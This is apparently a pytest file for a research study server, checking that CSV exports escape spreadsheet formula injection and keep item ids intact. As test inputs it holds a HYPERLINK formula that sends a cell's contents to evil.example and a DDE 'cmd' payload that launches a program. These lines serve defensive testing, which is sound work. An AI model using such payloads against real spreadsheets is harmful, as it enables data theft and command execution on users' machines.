"""No cell of an export is run by a spreadsheet, and every id comes back as it was."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from actors import Rater
from hypothesis import given
from hypothesis import strategies as st
from small_study import app_on, write_images

from analysis.judgments.table import read_judgments
from generators.foreign_text import FORMULA_STARTS, as_meant, inert, is_formula
from study_server.config import parse_study_file
from study_server.export.export import export_study
from study_server.export.other_formats import write_jspsych
from study_server.export.verify import verify_export
from study_server.storage.database import Database
from study_server.studies.create import create_study
from study_server.studies.states import find_study, set_state

COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.slow
@given(st.text(alphabet="'=+-@\t a1.", max_size=8))
def test_every_text_comes_back_and_none_is_run(text: str) -> None:
    cell = inert(text)
    assert not is_formula(cell)
    assert as_meant(cell) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("-2.5", "-2.5"),
        (-2.5, -2.5),
        ("'=x", "''=x"),
        ("'tis", "'tis"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells(value: object, cell: object) -> None:
    assert inert(value) == cell


@pytest.mark.slow
def test_an_export_holds_no_formula_and_its_ids_round_trip(
    sqlite: Database, study_text: str, images: Path, tmp_path: Path
) -> None:
    names = [
        f"{start}item-{n}" for n, start in enumerate(("=", "+", "-", "@", "'=", "", "'", "a", "b"))
    ]
    folder = write_images(tmp_path / "images", names)
    text = study_text.replace(str(images), str(folder))
    file = parse_study_file(text, "study.toml")
    create_study(sqlite, file, text)
    with sqlite.session() as db_session:
        set_state(db_session, find_study(db_session, "small"), "open", "test")
    rater = Rater(app_on(sqlite)).begin()
    shown = {trial.item_id for trial in rater.truth()}
    rater.answer_all()
    rater.form(f"/r/{rater.token}/comment", comment=COMMENT)
    out = tmp_path / "out"
    export_study(sqlite, "small", out)
    assert verify_export(out) == []
    for path in out.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        assert [cell for cell in cells if cell[:1] in FORMULA_STARTS and is_formula(cell)] == []
    with (out / "sessions.csv").open(newline="", encoding="utf-8") as lines:
        assert [as_meant(row["comment"]) for row in csv.DictReader(lines)] == [COMMENT]
    judged = read_judgments(out)
    assert set(judged["item_id"]) <= set(names)
    assert judged["item_id"].nunique() == len(shown) == 7
    written = json.loads(write_jspsych(out).read_text(encoding="utf-8"))
    assert {row["item_id"] for row in written} == set(judged["item_id"])
